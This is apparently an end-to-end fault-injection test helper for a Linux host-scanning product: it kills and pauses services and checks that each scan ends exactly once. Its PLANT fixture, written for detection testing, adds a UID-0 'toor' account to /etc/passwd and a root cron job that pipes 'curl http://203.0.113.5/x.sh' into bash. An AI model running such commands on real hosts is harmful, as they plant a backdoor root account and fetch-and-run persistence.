"""The whole product under faults: what was accepted, how each scan went, and whether the promises held.

A trigger in the database notes every change of a scan's status, so that "exactly one end" is seen and not inferred.
"""

from __future__ import annotations

import os
import signal
import subprocess
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psycopg2
from redis import Redis

from sandfly_web.embedded.paths import DataDir
from scanners.contract import INGEST_QUEUE, zone_queue
from tests.e2e.product import Product
from tests.hosts.host import Host, wait_until

FINAL = ("done", "failed", "cancelled", "expired")
QUEUE = zone_queue("default")
REPORTS = INGEST_QUEUE
# Short times, so that taking back a lost scan is a matter of seconds. They nest as `manage.py check` wants them.
TIMES = {
    "SANDFLY_HEARTBEAT_TTL": "3",
    "SANDFLY_SCAN_SILENCE": "6",
    "SANDFLY_SCAN_RETRY": "1",
    "SANDFLY_ZONE_QUEUE_LENGTH": "9",
    "SANDFLY_LOG_LEVEL": "INFO",
    "SANDFLY_WORKER_CONCURRENCY": "8",
}
# Two planted things, each one finding of its own: the rules and how many findings a visit makes.
RULES = ["user_uid_zero_twin", "cron_job_fetch_and_run"]
PLANT = (
    "echo 'toor:x:0:0::/root:/bin/bash' >> /etc/passwd; "
    "echo '*/5 * * * * root curl -fsSL http://203.0.113.5/x.sh | bash' > /etc/cron.d/sync"
)
SETTLE_S = 90.0

WATCH = """
    CREATE TABLE fault_transition (scan uuid, was text, became text, error text, at timestamptz DEFAULT now());
    CREATE FUNCTION fault_note() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
        IF NEW.status <> OLD.status THEN
            INSERT INTO fault_transition VALUES (NEW.id, OLD.status, NEW.status, NEW.error_code);
        END IF;
        RETURN NEW;
    END $$;
    CREATE TRIGGER fault_note BEFORE UPDATE ON scans_scan FOR EACH ROW EXECUTE FUNCTION fault_note();
"""


@dataclass
class Target:
    """A host in the inventory, with what was asked of it so far."""

    host: Host
    id: str
    scans: list[str] = field(default_factory=list)


@dataclass
class Stack:
    """A running installation with a connection of the test's own to its servers."""

    product: Product
    credential: int = 0
    targets: list[Target] = field(default_factory=list)

    @property
    def data(self) -> DataDir:
        return DataDir(self.product.data)

    @property
    def redis(self) -> Redis:
        return Redis.from_url(self.data.redis_url, socket_timeout=5)

    def sql(self, query: str, *parameters: Any) -> list[tuple[Any, ...]]:
        """Rows of a query on a connection of its own, committed."""
        connection = psycopg2.connect(self.data.database_url)
        try:
            with connection, connection.cursor() as cursor:
                cursor.execute(query, parameters or None)
                return cursor.fetchall() if cursor.description else []
        finally:
            connection.close()

    # --- what is asked of it ---

    def enrol(self, host: Host) -> Target:
        """Put the host into the inventory and plant on it what the rules look for."""
        host.run(PLANT)
        credential = self.product.add_credential(host.name, private_key=host.key_path().read_text())
        target = Target(host, self.product.add_host(host, credential))
        self.targets.append(target)
        return target

    def accept(self, target: Target, **choice: Any) -> str:
        """A scan that the API has taken."""
        body = {"hosts": [target.id], "priority": "high", **(choice or {"rules": RULES})}
        scan = str(self.product.call("POST", "scans", body)["scans"][0]["id"])
        target.scans.append(scan)
        return scan

    def accept_held(self, target: Target) -> str:
        """A scan whose probe stands still on the host until `let_go`."""
        # Long enough to be met in the middle: a walk through the file system, at a tenth of a processor.
        scan = self.accept(target, rules=[*RULES, "file_suid_unusual_directory"], cpu_percent=10)
        hold(target.host)
        return scan

    def scan(self, scan_id: str) -> dict[str, Any]:
        names = ("status", "error_code", "error_message", "attempt", "heartbeat_at", "phase", "cleanup_error")
        rows = self.sql(f"SELECT {', '.join(names)} FROM scans_scan WHERE id = %s", scan_id)
        return dict(zip(names, rows[0], strict=True))

    # --- processes and servers ---

    def pid(self, service: str) -> int:
        """The first process of a service, once there is one: worker, ingest, beat, web, redis, postgres."""
        wait_until(lambda: bool(self.pids(service)), 30)
        return self.pids(service)[0]

    def pids(self, service: str) -> list[int]:
        return self.product.processes(COMMANDS[service])

    def kill(self, service: str, number: int = signal.SIGKILL) -> int:
        """Signal the first process of a service and wait until that one is gone."""
        pid = self.pid(service)
        os.kill(pid, number)
        wait_until(lambda: not is_running(pid), 30)
        return pid

    @contextmanager
    def stopped(self, service: str) -> Iterator[None]:
        """The service stands still for the length of the block, and no message lies in its connections."""
        pids = self.pids(service)
        for pid in pids:
            os.kill(pid, signal.SIGSTOP)
        # Redis gives the next message to whoever waits for one, also when it can no longer read it.
        for client in self.redis.client_list():
            if client["cmd"] == "brpop":
                self.redis.client_kill_filter(_id=client["id"])
        try:
            yield
        finally:
            for pid in pids:
                os.kill(pid, signal.SIGCONT)

    def wait_serving(self, seconds: float = 60) -> None:
        """Until console, database and broker answer."""
        wait_for(lambda: quiet(lambda: self.product.call("GET", "scans?page_size=1")) is not None, seconds)
        wait_for(lambda: quiet(self.redis.ping) is not None, seconds)

    def trouble(self, ticks: int) -> None:
        """Let the trouble last for this many ticks of the dispatcher, so that everybody has met it."""
        deadline = time.monotonic() + ticks
        wait_for(lambda: time.monotonic() > deadline, ticks + 5)

    # --- promises ---

    def settle(self, *scans: str, seconds: float = SETTLE_S) -> list[str]:
        """The status of each scan once all are over; fails with what is known of them when they are not in time."""

        def is_over() -> bool:
            rows = quiet(lambda: self.sql("SELECT count(*) FROM scans_scan WHERE id = ANY(%s::uuid[]) "
                                          "AND status IN ('queued', 'running')", list(scans)))  # fmt: skip
            return rows == [(0,)]

        try:
            wait_for(is_over, seconds)
        except TimeoutError:
            raise AssertionError({scan: self.scan(scan) for scan in scans}) from None
        return [str(self.scan(scan)["status"]) for scan in scans]

    def check(self, target: Target, *, lost: int = 0) -> None:
        """The promises for everything that was ever accepted for the target.

        `lost` is how many of its scans, by their nature, say nothing of what they saw.
        """
        self.check_ends(target.scans)
        visits = self.sql(
            "SELECT count(*) FROM scans_scan WHERE host_id = %s AND status = 'done'", target.id
        )[0][0]  # fmt: skip
        found = self.sql(
            "SELECT rule_name, count(*), min(count), max(count) FROM findings_finding "
            "WHERE host_id = %s AND rule_name = ANY(%s) GROUP BY rule_name ORDER BY rule_name",
            target.id,
            RULES,
        )
        expected = visits - lost
        assert found == [(name, 1, expected, expected) for name in sorted(RULES)] or not visits, (found, visits)
        assert target.host.wait_clean(10) == []

    def check_ends(self, scans: Sequence[str]) -> None:
        """Each ended exactly once, and one that failed says why."""
        ends = dict(
            self.sql(
                "SELECT scan::text, count(*) FROM fault_transition WHERE became = ANY(%s) AND scan = ANY(%s::uuid[]) "
                "GROUP BY scan",
                list(FINAL),
                list(scans),
            )
        )
        assert ends == dict.fromkeys(scans, 1)
        left = self.sql("SELECT scan, was, became FROM fault_transition WHERE was = ANY(%s)", list(FINAL))
        assert left == []
        silent = self.sql(
            "SELECT id FROM scans_scan WHERE status = 'failed' AND (error_code = '' OR error_message = '')"
        )
        assert silent == []


COMMANDS = {
    "worker": "scanners.app",
    "ingest": "ingest,web",
    "beat": "\0beat\0",
    "web": "gunicorn",
    "redis": "redis-server",
    "postgres": "config_file=",
}


def wait_for(condition: Callable[[], bool], seconds: float) -> None:
    """Look ten times a second. Raises TimeoutError."""
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            raise TimeoutError(f"not within {seconds} s")
        time.sleep(0.1)


def quiet(call: Callable[[], Any]) -> Any:
    """What a call gives, or None while whoever it asks is away."""
    try:
        return call()
    except (OSError, AssertionError, psycopg2.Error, ValueError) as error:
        del error
        return None


def is_running(pid: int) -> bool:
    try:
        return "\nState:\tZ" not in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


def probes_on(host: Host) -> list[int]:
    """Process ids, as the host has them, of probes that removed themselves and so are at work."""
    running = [pid for pid, line in host.processes().items() if line.split(" ")[0].endswith("/sf")]
    return [pid for pid in running if is_deleted(host.root / "proc" / str(pid) / "exe")]


def is_deleted(exe: Path) -> bool:
    try:
        return str(exe.readlink()).endswith(" (deleted)")
    except OSError:
        return False


def visits_of(host: Host) -> int:
    """How often somebody signed in."""
    return sum(" Accepted publickey for " in f" {line}" for line in host.authentications())


def hold(host: Host) -> None:
    """Stop the probe once there is one."""
    wait_until(lambda: bool(probes_on(host)), 45)
    host.run("kill -STOP " + " ".join(map(str, probes_on(host))))


def let_go(host: Host) -> None:
    """Let stopped probes run on; those whose pipe is gone end by themselves."""
    if probes := probes_on(host):
        host.run("kill -CONT " + " ".join(map(str, probes)))


def run_ip(*arguments: str) -> None:
    subprocess.run(["ip", *arguments], check=True)


def messages(stack: Stack, queue: str) -> list[bytes]:
    return [bytes(message) for message in stack.redis.lrange(queue, 0, -1)]
